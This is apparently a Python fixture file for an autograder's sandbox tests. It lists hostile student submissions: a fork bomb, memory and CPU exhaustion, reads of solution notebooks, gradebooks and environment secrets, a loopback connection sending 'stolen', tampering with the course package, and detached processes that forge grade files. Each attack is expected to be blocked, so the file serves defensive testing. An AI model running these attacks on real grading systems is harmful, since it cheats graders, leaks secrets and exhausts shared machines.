"""A corpus of hostile submissions for the tiny course of ag_fixtures.py (data, no tests).

Each ``Attack`` replaces solution cells of ``tiny.ipynb`` (``add``, ``mul``) with code a
hostile student might submit. ``test_hostile.py`` grades them all in one batch, between
honest students, and checks each attack's scores, the evidence its cells print, and that
nothing outside its working folder changed.

Conventions, so that a new attack is a few lines:

- Code is a template: ``{name}`` placeholders are filled from ``test_hostile.CONTEXT``
  (``repo``: the fake course; ``project``: this checkout; ``subs``, ``out``: the batch's
  SUBMISSIONS and OUT; ``port``: a loopback listener the test runs; ``marker``: a string
  that marks processes the attack leaves behind; ``secret``: a variable set in the
  grader's environment; ``root``: whether the grader is root). Double the braces of
  literal ones (``{{}}``).
- An attack prints ``RESULT <what>: blocked (...)`` when the sandbox stopped it (an
  OSError, MemoryError, ...), ``RESULT <what>: SUCCEEDED ...`` when it got through and
  ``BROKEN`` when the attack itself has a bug; ``evidence`` lists text that must appear in
  the outputs of the notebook, ``forbidden`` text that must not (``SUCCEEDED`` and
  ``BROKEN`` always are). A cell that crashes before it prints its RESULT line fails the test, so an
  attack cannot pass by being broken.
- ``scores``: the points each graded cell must get (default: 0 everywhere), and
  ``reasons``: text each cell's reason must contain (a limit it hit, for example).

Section 2 of issue 7 (test cells that fail closed, tampering with the test machinery) and
section 3 (no answers within reach) add their attacks here the same way.
"""

from __future__ import annotations

import dataclasses
import os

# A root grader runs each kernel as a uid of its own, which cannot write the folder of its
# sockets once it has started; a non-root grader's kernels share its uid.
ROOT = os.geteuid() == 0

# Helpers every attack cell may use: try something, print a RESULT line either way.
PRELUDE = '''\
import os, sys, json, glob, socket, subprocess, time
from pathlib import Path

def attempt(what, action):
    """Run ``action``; what the sandbox raises is "blocked", a bug in the attack is not.
    (ZeroDivisionError: the attack's way to say it found nothing to work on.)"""
    try:
        got = action()
    except (OSError, MemoryError, KeyError, ZeroDivisionError) as err:
        print(f"RESULT {what}: blocked ({type(err).__name__}: {err})"[:300])
        return None
    except BaseException as err:
        print(f"RESULT {what}: BROKEN attack ({type(err).__name__}: {err})"[:300])
        return None
    print(f"RESULT {what}: SUCCEEDED {str(got)[:200]}")
    return got

def visible_paths():
    """Paths named in /proc: other processes' command lines, environments, folders."""
    found = set()
    for proc in glob.glob("/proc/[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                text = open(f"{proc}/{name}", "rb").read().decode(errors="replace")
            except OSError:
                continue
            found.update(p for p in text.replace("=", "\\0").split("\\0") if p.startswith("/"))
        for name in ("cwd", "root"):
            try:
                found.add(os.readlink(f"{proc}/{name}"))
            except OSError:
                pass
    return found
'''


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str  # the student id
    cells: dict[str, str]  # solution grade_id -> code (PRELUDE is prepended to the first)
    evidence: tuple[str, ...] = ()
    forbidden: tuple[str, ...] = ()
    scores: dict[str, float] = dataclasses.field(default_factory=dict)
    reasons: dict[str, str] = dataclasses.field(default_factory=dict)


ATTACKS = [
    Attack("network", {"add": '''
def connect():
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"stolen")
    return "connected"
attempt("loopback connection", connect)
attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
'''}, evidence=("RESULT loopback connection: blocked", "RESULT dns: blocked")),

    Attack("read-solutions", {"add": '''
import course
here = Path(course.__file__).resolve().parents[1]
def steal(root):
    nb = json.loads(Path(root, "solutions", "a1", "tiny.ipynb").read_text())
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())
    return "solution executed"
attempt("solutions via course.__file__", lambda: os.listdir(here / "solutions"))
attempt("solutions of the course", lambda: steal("{repo}"))
attempt("project checkout", lambda: os.listdir("{project}/solutions"))
attempt("autograder package", lambda: os.listdir("{project}/autograder"))
'''}, evidence=("RESULT solutions via course.__file__: blocked",
                "RESULT solutions of the course: blocked",
                "RESULT project checkout: blocked", "RESULT autograder package: blocked")),

    Attack("read-gradebook", {"add": '''
skip = ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix)
found = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)]
    found += [os.path.join(root, f) for f in files if f.endswith((".db", ".ipynb"))]
print("FOUND", found)
attempt("the template and gradebooks", lambda: glob.glob("/tmp/autograder-grade-*/**/*.db",
                                                         recursive=True) or 1 / 0)
attempt("the notebook being graded", lambda: open(Path.cwd() / "tiny.ipynb").read())
attempt("grader folders named in /proc", lambda: [os.listdir(p) for p in visible_paths()
                                                   if "autograder-grade" in p] or 1 / 0)
batches = set(p.split("/work/")[0].split("/sandbox-home")[0] for p in visible_paths()
              if "autograder-grade" in p)
print("BATCHES", sorted(batches))
attempt("edit the template gradebook", lambda: [
    open(f"{{b}}/template/gradebook.db", "ab").write(b"x") for b in batches] or 1 / 0)
attempt("drop a file into the template", lambda: [
    open(f"{{b}}/template/source/a1/planted.txt", "w").write("x") for b in batches] or 1 / 0)
'''}, evidence=("FOUND []", "RESULT the template and gradebooks: blocked",
                "RESULT the notebook being graded: blocked",
                "RESULT edit the template gradebook: blocked",
                "RESULT drop a file into the template: blocked"),
        forbidden=("add(-2, 2)", "BEGIN HIDDEN TESTS")),

    Attack("other-students", {"add": '''
paths = visible_paths()
print("PATHS", sorted(p for p in paths if "subs" in p or "out" in p))
attempt("list SUBMISSIONS", lambda: os.listdir("{subs}"))
attempt("read a submission", lambda: open("{subs}/aaa-honest/a1/tiny.ipynb").read())
attempt("rewrite a submission", lambda: open("{subs}/zzz-honest/a1/tiny.ipynb", "a").write(" "))
attempt("list OUT", lambda: os.listdir("{out}"))
attempt("write OUT", lambda: open("{out}/grades.csv", "a").write("x"))
'''}, evidence=("RESULT list SUBMISSIONS: blocked", "RESULT read a submission: blocked",
                "RESULT rewrite a submission: blocked", "RESULT list OUT: blocked",
                "RESULT write OUT: blocked")),

    Attack("tamper-course", {"add": '''
import course
import course.models.counting as counting
attempt("append to course/models/counting.py",
        lambda: open(counting.__file__, "a").write("\\ncount_joint_table = None\\n"))
attempt("write next to the course package",
        lambda: open(Path(course.__file__).parent / "planted.py", "w").write("x = 1"))
attempt("write the virtual environment",
        lambda: open(Path(sys.prefix) / "planted.txt", "w").write("x"))
open("/tmp/{marker}", "w").write("planted")  # the sandbox's own /tmp: gone afterwards
open(Path.home() / "{marker}", "w").write("planted")
if {root}:
    attempt("write the socket folder",
            lambda: open("/run/autograder/ipc/planted", "w").write("x" * 1000))
'''}, evidence=("RESULT append to course/models/counting.py: blocked",
                "RESULT write next to the course package: blocked",
                "RESULT write the virtual environment: blocked",
                *(("RESULT write the socket folder: blocked",) if ROOT else ()))),

    Attack("detached", {"add": '''
code = """
import os, time
time.sleep(4)
for path in ("{out}/grades.csv", "{subs}/aaa-honest/a1/tiny.ipynb"):
    try:
        open(path, "w").write("student,a1,tiny.ipynb,test_add,2,2,passed,")
    except OSError:
        pass
time.sleep(600)  # {marker}
"""
subprocess.Popen([sys.executable, "-c", code], env={{}}, start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
if os.fork() == 0:  # a daemon, double-forked, in its own session
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sleep", ["/bin/sleep", "600"], {{"M": "{marker}"}})
    os._exit(0)
print("RESULT detached processes: started")
'''}, evidence=("RESULT detached processes: started",)),

    Attack("environment", {"add": '''
print("ENV", sorted(os.environ))
print("NBGRADER_EXECUTION=" + os.environ.get("NBGRADER_EXECUTION", "missing"))
print("OMP_NUM_THREADS=" + os.environ.get("OMP_NUM_THREADS", "missing"))
attempt("the grader's secret", lambda: os.environ["AUTOGRADER_TEST_SECRET"])
attempt("the grader's marker", lambda: os.environ["AUTOGRADER_RUN_ID"])
print("UID", os.getuid(), "HOME", os.environ["HOME"])
'''}, evidence=("NBGRADER_EXECUTION=autograde", "OMP_NUM_THREADS=1",
                "RESULT the grader's secret: blocked", "RESULT the grader's marker: blocked"),
        forbidden=("{secret}",)),

    # a limit hit in a graded cell: mul allocates 8 GiB when the test calls it
    Attack("allocate-8gib", {"add": "def add(a, b):\n    return a + b\n",
                             "mul": '''
def mul(a, b):
    block = bytearray(8 * 1024**3)
    return a * b
import mmap
attempt("8 GiB of shared memory", lambda: mmap.mmap(-1, 8 * 1024**3))
'''}, evidence=("RESULT 8 GiB of shared memory: blocked",),
        scores={"test_add": 2}, reasons={"test_mul": "memory limit of 2 GiB exceeded"}),

    Attack("print-100mb", {"add": '''
line = "x" * 999 + "\\n"
for _ in range(100):
    print(line * 1000, end="")
print("RESULT printed: 100 MB")
'''}, evidence=("output cut by the grader",)),

    Attack("fork-bomb", {"add": '''
children = 0
try:
    while True:
        if os.fork() == 0:
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            time.sleep(600)
            os._exit(0)
        children += 1
finally:
    print("FORKED", children)
''', "mul": '''
tasks = sum(len(os.listdir(f"{{p}}/task")) for p in glob.glob("/proc/[0-9]*")
            if os.path.exists(f"{{p}}/task"))
print("TASKS", tasks)
'''}, evidence=("FORKED",), reasons={"test_add": "process limit of 64"}),

    Attack("cpu-time", {"add": "while True:\n    pass\n"},
           reasons={"test_add": "CPU time limit of 6 s exceeded"}),

    Attack("big-file", {"add": '''
with open("big.bin", "wb") as fh:
    fh.write(b"0" * (4 * 1024 * 1024))
'''}, reasons={"test_add": "file size limit of 1 MiB exceeded"}),
]

# What the test sets for this batch: small limits, so that every attack hits them fast,
# and the honest students still pass with a margin (the tiny kernel needs about 0.6 GiB
# of address space, 10 threads and 1 CPU second).
SANDBOX_CONFIG = {
    "memory_limit": 2 * 1024**3,
    "max_processes": 64,
    "cpu_time_limit": 6,
    "file_size_limit": 1024**2,
    "tmp_size": 64 * 1024**2,
}
